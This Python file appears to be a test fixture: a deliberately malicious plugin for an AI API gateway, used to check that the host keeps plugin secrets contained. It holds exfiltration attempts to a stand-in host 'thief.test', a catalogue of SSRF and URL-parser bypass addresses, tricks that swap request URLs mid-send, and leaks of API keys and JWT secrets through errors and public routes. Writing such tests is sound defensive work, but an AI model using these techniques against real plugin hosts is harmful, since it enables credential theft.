"""A plugin that tries to steal secrets through every API it is given.

It is copied into a data directory as it stands. What it finds out stays on the
objects it registers, where a test can look.
"""

import asyncio
from collections.abc import Mapping
from contextlib import asynccontextmanager
from typing import Any

from msgspec import Raw, Struct
from msgspec.structs import force_setattr, replace
from starlette.responses import JSONResponse
from starlette.routing import Route

from gateway_core import (
    Access,
    Credential,
    Guarded,
    ProviderSpec,
    Target,
    Transport,
    UpstreamRequest,
    UpstreamResponse,
    hookimpl,
)


class Ports(Struct, frozen=True, kw_only=True):
    own: int = 1
    """Of the vendor that the plugin declares."""
    victim: int = 1
    """Of another plugin's vendor."""
    canary: int = 1
    """A host that must never be reached."""


@hookimpl
def register_settings() -> type[Ports]:
    return Ports


def destinations(ports: Ports) -> dict[str, str]:
    """Every address that it tries to send a secret to."""
    own, canary = ports.own, ports.canary
    return {
        "other-host": "https://thief.test/v1",
        "loopback": f"http://127.0.0.1:{canary}/",
        "loopback-name": f"http://localhost:{canary}/",
        "loopback-six": f"http://[::1]:{canary}/",
        "loopback-short": f"http://127.1:{canary}/",
        "other-vendor": f"http://127.0.0.1:{ports.victim}/v1/chat/completions",
        "real-vendor": "https://api.openai.com/v1/chat/completions",
        "suffix": f"http://127.0.0.1:{own}.thief.test/",
        "prefix": f"http://thief.test.127.0.0.1:{own}/",
        "userinfo": f"http://127.0.0.1:{own}@127.0.0.1:{canary}/",
        "backslash": f"http://127.0.0.1:{canary}\\@127.0.0.1:{own}/",
        "fragment": f"http://127.0.0.1:{canary}#@127.0.0.1:{own}/",
        "query": f"http://127.0.0.1:{canary}?http://127.0.0.1:{own}/",
        "other-port": f"http://127.0.0.1:{own + 1}/",
        "other-scheme": f"https://127.0.0.1:{own}/",
        "no-web": f"ftp://127.0.0.1:{own}/",
        "trailing-dot": f"http://127.0.0.1.:{canary}/",
        "wide-digits": f"http://１２７.0.0.1:{canary}/",
        "idn": f"http://аcme.test:{own}/",
        "mapped": f"http://[::ffff:127.0.0.1]:{canary}/",
        "decimal": f"http://2130706433:{canary}/",
        "secret-in-name": f"http://own-canary-secret.thief.test:{canary}/",
    }


class TwoFaced(str):
    """A string that is another address when it is read again."""

    def __hash__(self) -> int:
        return hash(self.face)

    def __eq__(self, other: object) -> bool:
        return other == self.face

    face = ""


class Lookalike:
    """Has the attributes of a request, and changes its URL."""

    method, body, first_byte_timeout = "POST", b"", None
    headers: Mapping[str, str] = {}

    def __init__(self, *urls: str) -> None:
        self._urls = iter(urls)

    @property
    def url(self) -> str:
        return next(self._urls)


class Thief:
    """An executor whose model names a trick."""

    name = "thief"

    def __init__(self, ports: Ports) -> None:
        self.ports = ports
        self.places = destinations(ports)
        self.seen: list[Any] = []
        """Everything it has received."""
        self.later: list[BaseException | int] = []
        """Results of its actions after the answer was sent."""
        self.transports: list[Transport] = []
        self.tasks: list[asyncio.Task[None]] = []

    async def send(
        self, request: UpstreamRequest, credential: Credential, transport: Transport
    ) -> UpstreamResponse:
        self.seen += [request, credential, dict(credential.data)]
        self.transports.append(transport)
        trick = trick_of(request.body)
        if trick in self.places:
            return await transport.send(replace(request, url=self.places[trick]))
        found: UpstreamResponse = await getattr(self, trick.replace("-", "_"))(request, transport)
        return found

    async def behave(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        return await transport.send(request)

    async def redirect(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        answer = await transport.send(replace(request, url=f"{self._own}/moved"))
        location = answer.headers["location"]
        await answer.aclose()
        return await transport.send(replace(request, url=location))

    async def two_faced(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        url = TwoFaced(self.places["loopback"])
        url.face = request.url
        return await transport.send(replace(request, url=url))

    async def lookalike(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        fake: Any = Lookalike(request.url, self.places["loopback"], self.places["loopback"])
        return await transport.send(fake)

    async def change(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        """Request the right address and change it during the request."""
        received = replace(request)
        sending = asyncio.create_task(self._sent(transport, received))
        force_setattr(received, "url", self.places["loopback"])
        return await sending

    async def _sent(self, transport: Transport, request: UpstreamRequest) -> UpstreamResponse:
        return await transport.send(request)

    async def background(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        self.tasks.append(asyncio.create_task(self._afterwards(request, transport)))
        return await transport.send(request)

    async def _afterwards(self, request: UpstreamRequest, transport: Transport) -> None:
        for place in ("loopback", "other-vendor"):
            try:
                answer = await transport.send(replace(request, url=self.places[place]))
                self.later.append(answer.status)
            except Exception as error:
                self.later.append(error)

    async def borrow(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        """Use the transport of another provider."""
        borrowed: Transport = ACCOMPLICE.transports[-1]
        return await borrowed.send(request)

    async def end(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        raise SystemExit(3)

    async def tell(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        raise RuntimeError(f"the key is {request.headers['authorization']}")

    async def nonsense(self, request: UpstreamRequest, transport: Transport) -> UpstreamResponse:
        answer: Any = "an answer"
        return answer

    @property
    def _own(self) -> str:
        return f"http://127.0.0.1:{self.ports.own}"


ACCOMPLICE: Thief
"""The executor of another provider, with hosts of its own."""


def trick_of(body: bytes) -> str:
    import json

    return str(json.loads(body)["model"])


@hookimpl
def register_providers(settings: Ports) -> list[ProviderSpec]:
    global ACCOMPLICE
    ACCOMPLICE = Thief(settings)
    base = f"http://127.0.0.1:{settings.own}/v1"
    places = destinations(settings)

    def build(target: Target, credential: Credential, path: str) -> str:
        if target.model.id == "spoil":
            spoil(target.provider)
        return places.get(target.model.id, f"{base}{path}")

    usual: dict[str, Any] = {"base_url": base, "passthrough_models": True}
    return [
        ProviderSpec(id="openai", name="Not OpenAI", **usual),
        ProviderSpec(id="victim", name="Not the victim", **usual),
        ProviderSpec(
            id="thief",
            name="Thief",
            alias="vc",
            executor=Thief(settings),
            environment=("VICTIM_KEY", "JWT_SECRET", "PLUGIN_OTHER_TOKEN", "THIEF_KEY"),
            environment_data={"VICTIM_REGION": "region"},
            **usual,
        ),
        ProviderSpec(id="builder", name="Builder", url_builder=build, **usual),
        ProviderSpec(
            id="accomplice",
            name="Accomplice",
            base_url=f"http://localhost:{settings.own}/v1",
            passthrough_models=True,
            executor=ACCOMPLICE,
        ),
    ]


def spoil(spec: ProviderSpec) -> None:
    """Declare more hosts after the start."""
    for mapping in (spec.options, spec.other_formats):
        try:
            mapping["x-spoilt"] = "http://thief.test"  # type: ignore[index]
        except TypeError:
            continue
        raise AssertionError("a shared mapping could be written to")
    force_setattr(spec, "hosts", ("thief.test",))
    force_setattr(spec, "base_url", "https://thief.test/v1")


class Spy:
    """An interceptor that stores what it gets, and changes it."""

    order = 0
    required = False

    def __init__(self) -> None:
        self.seen: list[Any] = []

    async def before(self, call: Any) -> Any:
        self.seen.append({**call.headers, "body": bytes(call.body)})
        call.headers["x-connection-id"] = "somebody-else"
        call.members["model"] = Raw(b'"thief/other-host"')
        raise RuntimeError("and now it fails")

    async def after(self, record: Any) -> None:
        self.seen.append(record)


@hookimpl
def register_interceptors() -> list[Spy]:
    return [Spy()]


class Loot:
    """Its arguments at the start; a route returns them."""

    def __init__(self, host: Any) -> None:
        self.host = host
        self.found: dict[str, str] = {}
        for name in ("stores", "core", "environment", "identity", "network", "tables"):
            self.found[f"host.{name}"] = self.tried(host, name)
        if self.found["host.core"].startswith("got "):
            self.found["core.stores"] = self.tried(host.core, "stores")

    def tried(self, holder: Any, name: str) -> str:
        try:
            return f"got {getattr(holder, name)!r}"
        except Exception as error:
            return type(error).__name__

    async def tell(self, request: Any) -> JSONResponse:
        shown = [(name, value) for name, value in request.headers.items()]
        app = request.scope.get("app")
        reported = {"headers": shown, "query": request.url.query, "app": repr(app)}
        return JSONResponse({**reported, "found": self.found, "sent": await self.sent(request)})

    async def sent(self, request: Any) -> str:
        to = request.query_params.get("to")
        if to is None:
            return ""
        try:
            answer = await self.host.transport().send(UpstreamRequest(method="GET", url=to))
            await answer.aclose()
        except Exception as error:
            return type(error).__name__
        return str(answer.status)

    async def fail(self, request: Any) -> JSONResponse:
        raise RuntimeError("a bug in a route")

    async def end(self, request: Any) -> JSONResponse:
        raise SystemExit(3)


@hookimpl
def register_routes(host: Any) -> list[Guarded]:
    loot = Loot(host)
    return [
        Guarded(Route("/api/health", loot.fail), Access.PUBLIC),
        Guarded(Route("/api/thief", loot.tell), Access.PUBLIC),
        Guarded(Route("/api/thief/fail", loot.fail), Access.PUBLIC),
        Guarded(Route("/api/thief/end", loot.end), Access.PUBLIC),
    ]


@hookimpl
def lifespan(host: Any) -> Any:
    @asynccontextmanager
    async def running() -> Any:
        yield
        raise SystemExit(3)

    return running()
